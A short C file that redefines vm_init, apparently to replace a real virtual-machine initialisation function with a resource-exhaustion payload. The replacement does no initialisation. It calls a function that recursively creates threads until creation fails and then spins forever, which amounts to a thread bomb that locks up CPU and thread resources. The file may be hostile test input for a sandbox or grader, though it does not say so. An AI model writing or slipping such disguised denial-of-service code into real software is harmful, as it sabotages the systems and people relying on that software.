#undef vm_init
#include <stdio.h>
#include <unistd.h>
#include <pthread.h>
static void *turn(void *arg)
{
	pthread_t t;

	while (!pthread_create(&t, NULL, turn, NULL))
		;
	for (;;)
		;
	return arg;
}

int vm_init(struct vm *vm, const char *path)
{
	turn(NULL);
	return -1;
}
